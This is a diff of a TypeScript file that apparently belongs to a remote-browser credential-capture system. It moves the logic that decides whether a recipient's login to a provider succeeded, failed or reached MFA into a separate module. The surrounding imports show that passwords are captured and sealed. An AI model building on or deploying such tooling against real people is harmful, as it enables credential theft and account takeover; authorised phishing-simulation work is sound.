@@ -1,4 +1,7 @@
-// One recipient's login session. Invariants:
+// One recipient's login session. Longer than our ~450-line habit on purpose: it is one
+// state machine (start, stream client, input, tabs, outcome, end) whose timers and
+// private state every part touches; the pieces that stand alone live beside it
+// (context.ts, popup-guard.ts, ../capture/watch.ts, ../input, ../stream). Invariants:
 // - its BrowserContext is closed when the session ends, whatever ended it (completion,
 //   client leave after the reconnect grace, idle timeout, hard max, DELETE, shutdown,
 //   browser crash); `end()` is the single exit and is idempotent;
@@ -22,9 +25,9 @@ import type { Logger } from "pino";
 import type { Dialog, Page } from "puppeteer-core";
 import type WebSocket from "ws";
 import { CapturedCredentials, ZCaptureReport } from "../capture/credentials";
-import { decideOutcome, inspectPage, type TVerdict } from "../capture/outcome";
 import { CAPTURE_SCRIPT, rulesScript } from "../capture/script";
 import { sealCredential } from "../capture/seal";
+import { watchForVerdict } from "../capture/watch";
 import type { TReport } from "../fleet/link";
 import { InputDispatcher, type TInputMessage } from "../input/dispatch";
 import type { TWorkerMetrics } from "../metrics/metrics";
@@ -48,13 +51,6 @@ export type TSessionDeps = {
   onEnded: (session: Session) => void;
   report: (report: TReport) => void;
 };
-
-const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
-
-// After a submission, how long we watch the page for a verdict, and how often.
-const EVALUATION_WINDOW_MS = 12_000;
-const EVALUATION_POLL_MS = 250;
-const UNSURE_AFTER_MS = 2_000;
 
 /** Tries to start a tab's screencast before telling the log it failed. */
 const SCREENCAST_ATTEMPTS = 3;
@@ -537,60 +533,22 @@ export class Session {
 
   #scheduleEvaluation(trigger: "submission" | "navigation"): void {
     const token = ++this.#evaluation;
-    void this.#evaluate(token, trigger).catch((error: unknown) => {
+    const target = {
+      current: () => token === this.#evaluation && this.state === "running",
+      page: () => this.activePage,
+      loading: () => this.#pageInfo.loading,
+      passwordCaptured: () => this.#credentials.hasPassword,
+      rules: this.provider.rules,
+      loginUrl: this.provider.loginUrl,
+    };
+    void watchForVerdict(target, trigger, {
+      success: (url) => this.#succeed(url),
+      mfa: () => this.#setOutcome("mfa", false),
+      failure: (repeat) => this.#setOutcome("failure", repeat),
+      unsure: () => this.#setOutcome("unsure", false),
+    }).catch((error: unknown) => {
       this.#log.debug({ err: error }, "outcome evaluation failed");
     });
-  }
-
-  async #evaluate(token: number, trigger: "submission" | "navigation"): Promise<void> {
-    const deadline = Date.now() + EVALUATION_WINDOW_MS;
-    let previous: TVerdict | null = null;
-    let unsureSince: number | null = null;
-    let failureSent = false;
-    await sleep(400);
-    while (token === this.#evaluation && this.state === "running" && Date.now() < deadline) {
-      const page = this.activePage;
-      if (!page) return;
-      const inspection = await inspectPage(page, this.provider.rules);
-      if (token !== this.#evaluation) return;
-      if (!inspection.ready || this.#pageInfo.loading) {
-        previous = null;
-        await sleep(EVALUATION_POLL_MS);
-        continue;
-      }
-      const verdict = decideOutcome({
-        inspection,
-        rules: this.provider.rules,
-        loginUrl: this.provider.loginUrl,
-        passwordCaptured: this.#credentials.hasPassword,
-      });
-      // A verdict counts once it holds over two polls: redirects have settled.
-      if (verdict === previous) {
-        if (verdict === "success") {
-          await this.#succeed(inspection.url);
-          return;
-        }
-        if (verdict === "mfa") {
-          this.#setOutcome("mfa", false);
-          return;
-        }
-        if (verdict === "failure" && !failureSent) {
-          // Keep watching: a stale error text may sit on an SPA that then signs in.
-          this.#setOutcome("failure", trigger === "submission");
-          failureSent = true;
-        }
-        if (verdict === "unsure") {
-          unsureSince ??= Date.now();
-          if (Date.now() - unsureSince >= UNSURE_AFTER_MS) {
-            this.#setOutcome("unsure", false);
-            return;
-          }
-        }
-      }
-      if (verdict !== "unsure") unsureSince = null;
-      previous = verdict;
-      await sleep(EVALUATION_POLL_MS);
-    }
   }
 
   #setOutcome(outcome: TLoginOutcome, repeat: boolean): void {
